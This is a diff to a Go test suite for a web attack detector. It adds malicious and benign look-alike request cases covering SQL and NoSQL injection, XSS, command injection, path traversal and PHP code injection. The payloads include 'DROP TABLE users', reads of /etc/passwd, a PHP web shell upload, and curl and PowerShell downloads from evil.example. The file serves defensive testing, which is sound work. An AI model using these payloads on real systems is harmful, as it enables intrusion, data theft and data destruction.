@@ -40,6 +40,15 @@ func TestSQLI(t *testing.T) {
 		{"the path", get("/products/1'%20or%20'1'='1")},
 		{"a quote-operator-quote login bypass", get("/login?u=%27-%27")},
 		{"X-Forwarded-For", get("/").with("X-Forwarded-For", "1.2.3.4' or 1=1--")},
+		{"UNION SELECT with comments between", get("/p?id=1/**/UNION/**/SELECT/**/1,2")},
+		{"a stacked statement", get("/p?id=1%27%3B+DROP+TABLE+users")},
+		{"a time-based function", get("/p?id=1+AND+SLEEP(5)")},
+		{"information_schema alone", get("/p?t=information_schema")},
+		{"a NoSQL operator in a parameter name", get("/login?user%5B$ne%5D=x")},
+		{"a NoSQL operator as a JSON key", post("/login", "application/json", `{"user":{"$where":"1"}}`)},
+		{"a PostgreSQL cast", get("/p?id=password::int")},
+		{"a quote breaking out into a statement", post("/c", "application/x-www-form-urlencoded", "q=%27select+password+from+users")},
+		{"a cast of a quoted JSON value", get("/p?id=%27%5B1%5D%27::json")},
 	}, []signalCase{
 		{"a name with an apostrophe", get("/search?q=O%27Brien")},
 		{"quotes in a sentence", get("/search?q=it%27s+%22fine%22")},
@@ -48,6 +57,10 @@ func TestSQLI(t *testing.T) {
 		{"quoted punctuation in prose", post("/c", "application/json", `{"t":"use of hyphens ('-') in names"}`)},
 		{"parentheses in prose", post("/c", "application/json", `{"t":"Most-specific (longest) pattern wins."}`)},
 		{"a JWT", get("/").with("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln")},
+		{"a search for a SQL statement", get("/search?q=select+*+from+users")},
+		{"order by in prose", get("/search?q=sort+in+order+by+price")},
+		{"a JSON schema key", post("/c", "application/json", `{"$schema":"x"}`)},
+		{"a quoted keyword in prose", get("/search?q=%27select%27+means+choose")},
 	})
 }
 
@@ -61,6 +74,15 @@ func TestXSS(t *testing.T) {
 		{"a data:text/html URL", get("/go?next=data:text/html;base64,PHNjcmlwdD4=")},
 		{"a form field", post("/c", "application/x-www-form-urlencoded", "c=%3Csvg+onload%3Dalert(1)%3E")},
 		{"a Referer query parameter", get("/").with("Referer", "https://a.example/?q=<script>alert(1)</script>")},
+		{"a full-width script tag", get("/p?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E")},
+		{"an event handler after a quote", get("/p?q=%22+onmouseover%3Dalert(1)")},
+		{"a JS sink", post("/c", "application/x-www-form-urlencoded", "a=document.cookie")},
+		{"a tagged template call", get("/p?q=%5B%5D.sort.call%60$%7Balert%7D1%60")},
+		{"HTML entities without semicolons", get("/p?q=%26lt%3Bscript%26gt%3Balert(1)")},
+		{"a tag name spelled with spaces", get("/p?q=%3Cf+o+r+m+action%3Dx")},
+		{"a script URL in CSS", get("/p?q=style%3Dx:url(javascript:alert(1))")},
+		{"a formaction attribute after a quote", get("/p?q=%27+formaction%3D//evil.example")},
+		{"UTF-7 markup", get("/p?q=%2BADw-script%2BAD4-")},
 	}, []signalCase{
 		{"a less-than sign in text", get("/search?q=a+%3C+b+and+c+%3E+d")},
 		{"a heart", get("/search?q=%3C3+you")},
@@ -68,6 +90,9 @@ func TestXSS(t *testing.T) {
 		{"a book title with a colon", get("/search?q=JavaScript%3A+The+Good+Parts")},
 		{"a word starting with on", get("/search?q=once%3Dtrue")},
 		{"an https URL", get("/go?next=https://example.com/a?b=c")},
+		{"a parameter named like a handler", get("/p?online=yes")},
+		{"a phone number in parentheses", get("/p?phone=%2B1+(555)+123")},
+		{"a comparison in prose", get("/search?q=a+%3C+b+or+c")},
 	})
 }
 
@@ -84,6 +109,17 @@ func TestCMDEXE(t *testing.T) {
 		{"a path-qualified command", get("/ping?host=x%7C/usr/bin/id")},
 		{"sleep with a number", get("/ping?host=x%3B+sleep+10")},
 		{"curl with a host", get("/ping?host=x%3B+curl+evil.example")},
+		{"quotes inside a command name", get("/p?c=x%3Bw%27h%27o%5Cami")},
+		{"a brace list", get("/p?c=%7Bcat,/etc/passwd%7D")},
+		{"a cmd.exe FOR loop", get("/p?c=for+/f+%22tokens%3D1%22+%25%25a+in+(%27dir%27)+do+echo+%25%25a")},
+		{"a cmd.exe IF statement", get("/p?c=if+exist+c:%5Cboot.ini+type+c:%5Cboot.ini")},
+		{"a PowerShell cmdlet after a separator", get("/p?c=x%3BInvoke-WebRequest+http://evil.example/x.ps1")},
+		{"a globbed system path", get("/p?c=/etc/pas%5Bs%5Dwd")},
+		{"process substitution", get("/p?c=%3C(whoami)")},
+		{"a shell started with a command string", get("/p?c=time+sh+-c+id")},
+		{"a wrapper running a command", post("/c", "application/x-www-form-urlencoded", "code=strace+ifconfig")},
+		{"a command ending the statement at the start", get("/p?c=whoami%3B")},
+		{"Shellshock", get("/p?c=()+%7B+:%3B+%7D%3B+/bin/id")},
 	}, []signalCase{
 		{"an ampersand between names", get("/search?q=Tom+%26+Jerry")},
 		{"a semicolon before a command-like word in prose", get("/search?q=salt+%26+pepper%3B+cat+food")},
@@ -92,6 +128,11 @@ func TestCMDEXE(t *testing.T) {
 		{"a jQuery call", post("/c", "application/json", `{"js":"$(document).ready(fn)"}`)},
 		{"HTML entities", get("/search?q=%26amp%3B+%26lt%3B")},
 		{"command names as plain words", get("/search?q=I+use+wget+and+curl+daily")},
+		{"code braces in prose", post("/c", "application/json", `{"t":"Reduces to: { var (bindings); expr }"}`)},
+		{"a GraphQL-ish field list", get("/api?fields=%7Bid,name%7D")},
+		{"a command name as a search", get("/search?q=python+tutorial")},
+		{"the word for in prose", get("/search?q=for+100%25+cotton+in+(blue)")},
+		{"if in prose", get("/search?q=if+not+defined+then+what")},
 	})
 }
 
@@ -106,11 +147,17 @@ func TestTRAVERSAL(t *testing.T) {
 		{"/etc/passwd alone", get("/download?file=/etc/passwd")},
 		{"a Tomcat path parameter step", get("/..;/manager/html")},
 		{"a multipart field", multipartRequest("file", "", "../../etc/shadow")},
+		{"dot-dots as 0x escapes", get("/").with("X-Path", "0x2e0x2e/0x2e0x2e/etc/passwd")},
+		{"a sensitive system file without dots", get("/p?file=/proc/self/environ")},
+		{"a hidden directory in the path", get("/.git/config")},
+		{"a backup file in the path", get("/backup.sql.gz")},
 	}, []signalCase{
 		{"an ellipsis before a slash", get("/search?q=wait.../what")},
 		{"a relative-looking version", get("/search?q=version+1.2.3")},
 		{"a Windows user path", get("/search?q=C:%5CUsers%5CPublic")},
 		{"a file name with dots", get("/files/archive.tar.gz")},
+		{"a well-known URI", get("/.well-known/security.txt")},
+		{"a path that mentions etc in a word", get("/p?f=/setcpasswd")},
 	})
 }
 
@@ -123,12 +170,24 @@ func TestCODEINJECTION(t *testing.T) {
 		{"a php:// wrapper", get("/?page=php://filter/convert.base64-encode/resource=index.php")},
 		{"a PHP web shell upload", multipartRequest("upload", "shell.txt", "<?php @eval($_POST['p']);?>")},
 		{"a Java runtime exec", post("/c", "application/json", `{"x":"Runtime.getRuntime().exec(\"id\")"}`)},
+		{"a variable function call", post("/c", "application/x-www-form-urlencoded", "f=%24_GET%5B0%5D(%24_GET%5B1%5D)")},
+		{"a function named by a string", get("/p?x=(%22system%22)(%27id%27)")},
+		{"a serialized object", post("/c", "application/x-www-form-urlencoded", "d=O%3A8%3A%22stdClass%22%3A0%3A%7B%7D")},
+		{"a php.ini directive", get("/p?x=allow_url_include%3D1")},
+		{"a PHP file name in an upload header", get("/upload").with("X-Filename", "shell.php5")},
+		{"a zip wrapper", get("/p?f=zip://upload.jpg%23x.php")},
+		{"a tab before the parenthesis", get("/p?x=exec%09(%27id%27)")},
+		{"a comment before the parenthesis", get("/p?x=system/**/(%27id%27)")},
+		{"a function glued to a longer word", get("/p?x=FOOgzdecode()")},
 	}, []signalCase{
 		{"system followed by a space", get("/?x=system+requirements+(minimum)")},
 		{"a word ending in a PHP function name", get("/?x=ecosystem(s)")},
 		{"a method call in JavaScript", post("/c", "application/json", `{"js":"re.exec(str)"}`)},
 		{"a prose mention of exec", post("/c", "application/json", `{"t":"and exec(argv0, argv) in the child"}`)},
 		{"binary file contents", multipartRequest("upload", "a.png", "\x89PNG\r\n\x1a\neval(x)")},
+		{"a price with a dollar sign", get("/search?q=%245+(tax+incl.)")},
+		{"a PHP file in the URL path", get("/index.php?page=2")},
+		{"a word and a parenthesis in prose", get("/search?q=system+(of+units)")},
 	})
 }
 
